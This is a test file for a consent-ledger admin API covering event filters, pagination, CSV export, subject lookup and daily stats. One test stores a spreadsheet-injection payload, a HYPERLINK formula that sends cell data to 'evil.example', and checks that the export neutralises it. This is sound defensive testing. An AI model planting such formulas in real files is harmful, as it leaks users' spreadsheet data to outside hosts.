/**
 * The ledger explorer's admin API (spec 4.3): `GET /consent/events` (filters, pagination), its CSV export,
 * the subject view with the notice text behind each event, the lookup by identifier, and `GET
 * /consent/stats` on a fixture with known days (counted in the database, on SQLite, PostgreSQL and
 * MariaDB alike). People are made through real submissions and withdrawals; the stats fixture is appended
 * to the ledger with fixed times.
 */
import { CSV_COLUMNS } from '../../shared/contracts/records';
import type { NewEvent } from '../../server/src/services/ledger';
import { adminApi, createSuperAdmin } from '../harness/admin';
import { type Notices, setupForm, shownNotices, submitConsent } from '../harness/consent-setup';
import { consentEvent } from '../harness/fixtures';
import { bootStrapi, type TestStrapi } from '../harness/strapi';

let app: TestStrapi;
let admin: ReturnType<typeof adminApi>;
let notices: Notices;
const people: Record<string, string> = {};

const submit = async (email: string, choices: Record<string, boolean>, shown: Notices = notices) =>
  (await submitConsent(app, { email }, choices, shown)).receipt.piiPrincipalId;

const ledger = () => app.strapi.plugin('consent').service('ledger');
const at = (iso: string, over: Partial<NewEvent>) =>
  consentEvent({ subject: 'stats-fixture', occurredAt: new Date(iso), ...over });

beforeAll(async () => {
  app = await bootStrapi();
  notices = shownNotices(await setupForm(app.strapi, ['newsletter', 'partners', 'postal', 'doi']));
  admin = adminApi(app.strapi, await createSuperAdmin(app.strapi));

  people.ada = await submit('ada@example.com', { newsletter: true, partners: false });
  people.bob = await submit('bob@example.com', { newsletter: true, partners: true, postal: true });
  const withdrawn = await app
    .http()
    .post('/api/consent/withdrawals')
    .send({ subject: { email: 'ada@example.com' }, purposes: ['newsletter'] });
  expect(withdrawn.status).toBe(202);

  // A second version of the newsletter notice, which Ada then agrees to again: her timeline shows both texts.
  const v2 = await app.strapi
    .plugin('consent')
    .service('notices')
    .createDraft({
      purpose: 'newsletter',
      locale: 'en',
      title: 'Newsletter, now weekly',
      body: 'We send you our newsletter every week.',
      dataCategories: ['email address'],
      recipients: [],
      privacyPolicyUrl: 'https://shop.example/privacy',
      withdrawalText: 'Unsubscribe with one click, whenever you like.',
    });
  const published = await app.strapi.plugin('consent').service('notices').publish(v2.id);
  await submit(
    'ada@example.com',
    { newsletter: true },
    { ...notices, newsletter: { version: 2, hash: published.hash } }
  );

  // Known counts on known days, far from today, for the statistics and the date filters.
  await ledger().append([
    at('2025-03-01T00:00:00.000Z', { purpose: 'newsletter' }),
    at('2025-03-01T12:00:00.000Z', { purpose: 'newsletter' }),
    at('2025-03-01T23:59:59.999Z', { purpose: 'newsletter' }),
    at('2025-03-01T08:00:00.000Z', { purpose: 'partners', action: 'refused', state: 'refused' }),
    at('2025-03-02T09:00:00.000Z', {
      purpose: 'newsletter',
      action: 'withdrawn',
      state: 'withdrawn',
      method: 'one-click',
    }),
    at('2025-03-02T09:00:00.000Z', { purpose: 'doi', action: 'requested', state: 'pending' }),
    at('2025-03-02T09:10:00.000Z', { purpose: 'doi', action: 'requested', state: 'pending', subject: 'stats-2' }),
    at('2025-03-02T09:20:00.000Z', { purpose: 'doi', action: 'confirmed', state: 'granted', method: 'double-opt-in' }),
    at('2025-03-02T10:00:00.000Z', {
      purpose: 'postal',
      channel: 'postal',
      action: 'objected',
      state: 'objected',
      legalBasis: 'legitimate-interest',
    }),
    at('2025-03-03T00:00:00.000Z', { purpose: 'newsletter', subject: 'stats-3' }),
    // A page address that needs CSV quoting: a quote, a comma and a line break.
    at('2025-03-04T00:00:00.000Z', {
      purpose: 'partners',
      subject: 'stats-4',
      pageUrl: 'https://shop.example/say "hi", then\r\nleave',
    }),
  ]);
});
afterAll(() => app?.stop());

const events = (query: Record<string, string | number> = {}) => admin.get('/consent/events').query(query);
const allEvents = async () =>
  (await app.strapi.db.query('plugin::consent.consent-event').findMany({ orderBy: { seq: 'asc' } })) as {
    seq: number | string;
    subject: string;
  }[];

/** RFC 4180 reader, for checking what a spreadsheet would read back. */
const parseCsv = (text: string): string[][] => {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += c;
  }
  if (field || row.length) {
    row.push(field);
    rows.push(row);
  }
  return rows;
};

describe('GET /consent/events', () => {
  it('lists every event newest first, with pagination meta', async () => {
    const all = await allEvents();
    const res = await events();
    expect(res.status).toBe(200);
    expect(res.body.meta.pagination).toEqual({
      page: 1,
      pageSize: 25,
      total: all.length,
      pageCount: Math.ceil(all.length / 25),
    });
    const seqs = res.body.data.map((e: { seq: number }) => e.seq);
    expect(seqs).toEqual([...seqs].sort((a: number, b: number) => b - a));
    expect(seqs[0]).toBe(Number(all[all.length - 1].seq));
    expect(res.body.data[0]).toEqual(
      expect.objectContaining({
        eventId: expect.any(String),
        occurredAt: expect.stringMatching(/Z$/),
        hash: expect.stringMatching(/^[0-9a-f]{64}$/),
      })
    );
  });

  it('pages: page 2 of size 3 is the next three, and the last page is short', async () => {
    const all = (await allEvents()).map((e) => Number(e.seq)).reverse();
    const page2 = await events({ page: 2, pageSize: 3 });
    expect(page2.body.data.map((e: { seq: number }) => e.seq)).toEqual(all.slice(3, 6));
    expect(page2.body.meta.pagination).toEqual({
      page: 2,
      pageSize: 3,
      total: all.length,
      pageCount: Math.ceil(all.length / 3),
    });
    const last = await events({ page: Math.ceil(all.length / 3), pageSize: 3 });
    expect(last.body.data.length).toBe(all.length % 3 || 3);
    expect((await events({ page: 99, pageSize: 3 })).body.data).toEqual([]);
  });

  it('by email: normalised and found by keyed hash; the same as by pseudonym', async () => {
    const byEmail = await events({ email: '  ADA@Example.com ' });
    expect(byEmail.status).toBe(200);
    expect(byEmail.body.data.length).toBeGreaterThanOrEqual(4);
    expect(new Set(byEmail.body.data.map((e: { subject: string }) => e.subject))).toEqual(new Set([people.ada]));
    const bySubject = await events({ subject: people.ada });
    expect(bySubject.body.data).toEqual(byEmail.body.data);
    // Nobody has it: an empty selection, not an error (and no hint either way beyond that).
    const nobody = await events({ email: 'nobody@example.com' });
    expect(nobody.status).toBe(200);
    expect(nobody.body).toEqual({ data: [], meta: { pagination: { page: 1, pageSize: 25, total: 0, pageCount: 0 } } });
  });

  it('by purpose, action, method and channel, combined', async () => {
    const withdrawn = await events({ action: 'withdrawn', purpose: 'newsletter' });
    expect(withdrawn.body.data.map((e: { subject: string; method: string }) => [e.subject, e.method])).toEqual([
      ['stats-fixture', 'one-click'],
      [people.ada, 'form'],
    ]);
    const oneClick = await events({ method: 'one-click' });
    expect(oneClick.body.data.map((e: { subject: string }) => e.subject)).toEqual(['stats-fixture']);
    const postal = await events({ channel: 'postal', action: 'objected' });
    expect(postal.body.data.map((e: { subject: string }) => e.subject).sort()).toEqual(
      [people.bob, 'stats-fixture'].sort()
    );
    const refused = await events({ purpose: 'partners', action: 'refused', email: 'ada@example.com' });
    expect(refused.body.data).toHaveLength(1);
    expect(refused.body.data[0]).toMatchObject({
      subject: people.ada,
      purpose: 'partners',
      state: 'refused',
      method: 'form',
      formKey: 'signup',
    });
  });

  it('by time: a bare day is the whole UTC day, on both ends', async () => {
    const day1 = await events({ from: '2025-03-01', to: '2025-03-01' });
    expect(day1.body.meta.pagination.total).toBe(4);
    const twoDays = await events({ from: '2025-03-01', to: '2025-03-02' });
    expect(twoDays.body.meta.pagination.total).toBe(9);
    const exact = await events({ from: '2025-03-01T12:00:00Z', to: '2025-03-01T23:59:59.999Z' });
    expect(exact.body.data.map((e: { occurredAt: string }) => e.occurredAt).sort()).toEqual([
      '2025-03-01T12:00:00.000Z',
      '2025-03-01T23:59:59.999Z',
    ]);
    const zoned = await events({ from: '2025-03-03T01:00:00+01:00', to: '2025-03-03T01:00:00+01:00' });
    expect(zoned.body.data.map((e: { subject: string }) => e.subject)).toEqual(['stats-3']);
  });

  it.each([
    [{ pageSize: 101 }, 'pageSize'],
    [{ pageSize: 0 }, 'pageSize'],
    [{ page: 'two' }, 'page'],
    [{ action: 'deleted' }, 'action'],
    [{ method: 'telepathy' }, 'method'],
    [{ purpose: 'Not A Key' }, 'purpose'],
    [{ from: '2025-02-30' }, 'from'],
    [{ to: '2025-03-01T10:00' }, 'to'],
    [{ from: '2025-03-02', to: '2025-03-01' }, 'to'],
    [{ email: 'not-an-address' }, 'email'],
    [{ email: 'ada@example.com', subject: 'x' }, 'email'],
    [{ subject: 'bad pseudonym!' }, 'subject'],
  ])('400 naming the field for %j', async (query, field) => {
    const res = await events(query as Record<string, string>);
    expect(res.status).toBe(400);
    expect(res.body.error.details.errors.map((e: { path: string[] }) => e.path.join('.'))).toContain(field);
  });

  it('refuses an unknown parameter and a repeated one', async () => {
    expect((await events({ sort: 'seq' })).status).toBe(400);
    expect((await admin.get('/consent/events?purpose=newsletter&purpose=partners')).status).toBe(400);
  });
});

describe('GET /consent/events/export?format=csv', () => {
  it('streams the selection as an attachment: header row, CRLF lines, ledger order, the pseudonym only', async () => {
    const res = await admin
      .get('/consent/events/export')
      .query({ format: 'csv' })
      .buffer(true)
      .parse((r, cb) => {
        let text = '';
        r.setEncoding('utf8');
        r.on('data', (chunk: string) => (text += chunk));
        r.on('end', () => cb(null, text));
      });
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(
      /^attachment; filename="consent-events-\d{4}-\d{2}-\d{2}\.csv"$/
    );
    const text = res.body as string;
    expect(text.endsWith('\r\n')).toBe(true);
    const rows = parseCsv(text);
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    const all = await allEvents();
    expect(rows.slice(1).map((r) => Number(r[0]))).toEqual(all.map((e) => Number(e.seq)));
    // No address, no IP, no user agent: only the pseudonym identifies anyone.
    expect(text).not.toContain('@example.com');
    expect(text).not.toContain('127.0.0');
    expect(rows.every((r) => r.length === CSV_COLUMNS.length)).toBe(true);
  });

  it('quotes per RFC 4180 (quotes doubled, commas and line breaks inside quotes)', async () => {
    const res = await admin
      .get('/consent/events/export')
      .query({ subject: 'stats-4' })
      .buffer(true)
      .parse((r, cb) => {
        let text = '';
        r.on('data', (chunk: Buffer) => (text += chunk.toString('utf8')));
        r.on('end', () => cb(null, text));
      });
    const text = res.body as string;
    expect(text).toContain('"https://shop.example/say ""hi"", then\r\nleave"');
    const rows = parseCsv(text);
    expect(rows).toHaveLength(2);
    expect(rows[1][CSV_COLUMNS.indexOf('pageUrl')]).toBe('https://shop.example/say "hi", then\r\nleave');
  });

  it('a page address that a spreadsheet would run as a formula is exported as text (leading quote)', async () => {
    const formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")';
    await ledger().append([
      at('2025-05-01T00:00:00.000Z', { purpose: 'partners', subject: 'formula-1', pageUrl: formula }),
      at('2025-05-01T00:00:01.000Z', { purpose: 'partners', subject: 'formula-1', pageUrl: '@SUM(1+1)' }),
    ]);
    const res = await admin
      .get('/consent/events/export')
      .query({ subject: 'formula-1' })
      .buffer(true)
      .parse((r, cb) => {
        let text = '';
        r.on('data', (chunk: Buffer) => (text += chunk.toString('utf8')));
        r.on('end', () => cb(null, text));
      });
    expect(res.status).toBe(200);
    const rows = parseCsv(res.body as string).slice(1);
    expect(rows.map((r) => r[CSV_COLUMNS.indexOf('pageUrl')])).toEqual([`'${formula}`, "'@SUM(1+1)"]);
    // The ledger itself keeps what was recorded: only the export is neutralised.
    const stored = await app.strapi.db
      .query('plugin::consent.consent-event')
      .findMany({ where: { subject: 'formula-1' }, orderBy: { seq: 'asc' } });
    expect(stored.map((e: { pageUrl: string }) => e.pageUrl)).toEqual([formula, '@SUM(1+1)']);
  });

  it('takes the same filters; an unknown address gives the header alone; bad filters answer 400 before any line', async () => {
    const text = async (query: Record<string, string>) =>
      (
        await admin
          .get('/consent/events/export')
          .query(query)
          .buffer(true)
          .parse((r, cb) => {
            let t = '';
            r.on('data', (c: Buffer) => (t += c.toString('utf8')));
            r.on('end', () => cb(null, t));
          })
      ).body as string;
    const ada = parseCsv(await text({ email: 'ada@example.com', purpose: 'newsletter' }));
    expect(ada.length).toBeGreaterThan(2);
    expect(new Set(ada.slice(1).map((r) => r[CSV_COLUMNS.indexOf('subject')]))).toEqual(new Set([people.ada]));
    expect(parseCsv(await text({ email: 'nobody@example.com' }))).toEqual([[...CSV_COLUMNS]]);
    const bad = await admin.get('/consent/events/export').query({ email: 'nope' });
    expect(bad.status).toBe(400);
    expect(bad.body.error.details.errors[0].path).toEqual(['email']);
    expect((await admin.get('/consent/events/export').query({ format: 'xlsx' })).status).toBe(400);
    expect((await admin.get('/consent/events/export').query({ page: 2 })).status).toBe(400);
  });

  it('pages through more than one read of 1,000 events', async () => {
    await ledger().append(
      Array.from({ length: 1205 }, (_, i) =>
        at('2025-04-01T00:00:00.000Z', { subject: `bulk-${i}`, purpose: 'partners' })
      )
    );
    const res = await admin
      .get('/consent/events/export')
      .query({ from: '2025-04-01', to: '2025-04-01' })
      .buffer(true)
      .parse((r, cb) => {
        let t = '';
        r.on('data', (c: Buffer) => (t += c.toString('utf8')));
        r.on('end', () => cb(null, t));
      });
    const rows = parseCsv(res.body as string).slice(1);
    expect(rows).toHaveLength(1205);
    expect(new Set(rows.map((r) => r[CSV_COLUMNS.indexOf('subject')])).size).toBe(1205);
  });
});

describe('subjects', () => {
  it('GET /consent/subjects?email= finds the person by keyed hash; 404 for nobody', async () => {
    const res = await admin.get('/consent/subjects').query({ email: 'Ada@Example.com' });
    expect(res.status).toBe(200);
    expect(res.body).toEqual({ data: { pseudonym: people.ada } });
    expect((await admin.get('/consent/subjects').query({ email: 'nobody@example.com' })).status).toBe(404);
    expect((await admin.get('/consent/subjects').query({ phone: '+33612345678' })).status).toBe(404);
  });

  it('GET /consent/subjects needs exactly one valid identifier', async () => {
    expect((await admin.get('/consent/subjects')).status).toBe(400);
    expect(
      (await admin.get('/consent/subjects').query({ email: 'ada@example.com', phone: '+33612345678' })).status
    ).toBe(400);
    const bad = await admin.get('/consent/subjects').query({ email: 'nope' });
    expect(bad.status).toBe(400);
    expect(bad.body.error.details.errors[0].path).toEqual(['email']);
  });

  it('GET /consent/subjects/:pseudonym: identifiers, states, and the timeline with the exact notice text of each event', async () => {
    const res = await admin.get(`/consent/subjects/${people.ada}`);
    expect(res.status).toBe(200);
    const { subject, states, timeline } = res.body.data;
    expect(subject).toMatchObject({ pseudonym: people.ada, email: 'ada@example.com', phone: null, erasedAt: null });
    expect(states).toEqual([
      expect.objectContaining({ purpose: 'newsletter', channel: 'email', state: 'granted', noticeVersion: 2 }),
      expect.objectContaining({ purpose: 'partners', channel: 'email', state: 'refused', noticeVersion: 1 }),
    ]);

    const times = timeline.map((e: { occurredAt: string }) => e.occurredAt);
    expect(times).toEqual([...times].sort());
    expect(timeline.map((e: { purpose: string; action: string }) => `${e.purpose}:${e.action}`)).toEqual([
      'newsletter:granted',
      'partners:refused',
      'newsletter:withdrawn',
      'newsletter:granted',
    ]);
    const [first, refused, withdrawal, again] = timeline;
    expect(first.notice).toEqual({
      id: first.noticeId,
      version: 1,
      locale: 'en',
      hash: first.noticeHash,
      title: 'About newsletter',
      body: 'We use your data for newsletter.',
      withdrawal: expect.stringMatching(/^You can withdraw your consent at any time/),
      dataCategories: ['email address'],
      recipients: [],
      privacyPolicyUrl: 'https://shop.example/privacy',
    });
    expect(refused.notice).toMatchObject({
      version: 1,
      title: 'About partners',
      recipients: ['Partner GmbH'],
      hash: refused.noticeHash,
    });
    expect(withdrawal.notice).toBeNull();
    expect(again.notice).toMatchObject({
      version: 2,
      title: 'Newsletter, now weekly',
      body: 'We send you our newsletter every week.',
      withdrawal: 'Unsubscribe with one click, whenever you like.',
      hash: again.noticeHash,
    });
  });

  it('404 for an unknown pseudonym, 400 for a malformed one', async () => {
    expect((await admin.get('/consent/subjects/00000000-0000-4000-8000-000000000000')).status).toBe(404);
    expect((await admin.get('/consent/subjects/not%20valid')).status).toBe(400);
  });
});

describe('GET /consent/stats', () => {
  it('counts per purpose and UTC day over the period, with the double opt-in confirmation rate', async () => {
    const res = await admin.get('/consent/stats').query({ from: '2025-03-01', to: '2025-03-02' });
    expect(res.status).toBe(200);
    const { from, to, days, totals, purposes } = res.body.data;
    expect([from, to, days]).toEqual(['2025-03-01', '2025-03-02', ['2025-03-01', '2025-03-02']]);
    const of = (key: string) => purposes.find((p: { purpose: string }) => p.purpose === key);
    expect(purposes.map((p: { purpose: string }) => p.purpose)).toEqual(['doi', 'newsletter', 'partners', 'postal']);
    expect(of('newsletter').name).toBe('Newsletter');
    expect(of('newsletter').days).toEqual([
      expect.objectContaining({ day: '2025-03-01', granted: 3, withdrawn: 0, confirmationRate: null }),
      expect.objectContaining({ day: '2025-03-02', granted: 0, withdrawn: 1 }),
    ]);
    expect(of('partners').totals).toMatchObject({ granted: 0, refused: 1 });
    expect(of('postal').totals).toMatchObject({ objected: 1 });
    expect(of('doi').totals).toMatchObject({ requested: 2, confirmed: 1, confirmationRate: 0.5 });
    expect(of('doi').days[1]).toMatchObject({ requested: 2, confirmed: 1, confirmationRate: 0.5 });
    expect(totals).toEqual({
      requested: 2,
      granted: 3,
      refused: 1,
      confirmed: 1,
      withdrawn: 1,
      objected: 1,
      expired: 0,
      revoked: 0,
      contacted: 0,
      informed: 0,
      confirmationRate: 0.5,
    });
  });

  it('one day, and the day after counts only its own events', async () => {
    const one = await admin.get('/consent/stats').query({ from: '2025-03-03', to: '2025-03-03' });
    expect(one.body.data.days).toEqual(['2025-03-03']);
    expect(one.body.data.totals).toMatchObject({ granted: 1, refused: 0 });
  });

  it('defaults to the last 30 days up to today (UTC), which holds the submissions', async () => {
    const res = await admin.get('/consent/stats');
    const today = new Date().toISOString().slice(0, 10);
    expect(res.body.data.days).toHaveLength(30);
    expect(res.body.data.to).toBe(today);
    const newsletter = res.body.data.purposes.find((p: { purpose: string }) => p.purpose === 'newsletter');
    expect(newsletter.totals).toMatchObject({ granted: 3, withdrawn: 1 });
    expect(newsletter.days[29]).toMatchObject({ day: today, granted: 3, withdrawn: 1 });
  });

  it.each([
    [{ from: '2025-02-30' }, 'from'],
    [{ to: '2025-03-01T00:00:00Z' }, 'to'],
    [{ from: '2025-03-02', to: '2025-03-01' }, 'to'],
    [{ from: '2024-01-01', to: '2025-03-01' }, 'from'],
    [{ purpose: 'newsletter' }, ''],
  ])('400 for %j', async (query, field) => {
    const res = await admin.get('/consent/stats').query(query);
    expect(res.status).toBe(400);
    if (field) expect(res.body.error.details.errors.map((e: { path: string[] }) => e.path.join('.'))).toContain(field);
  });
});
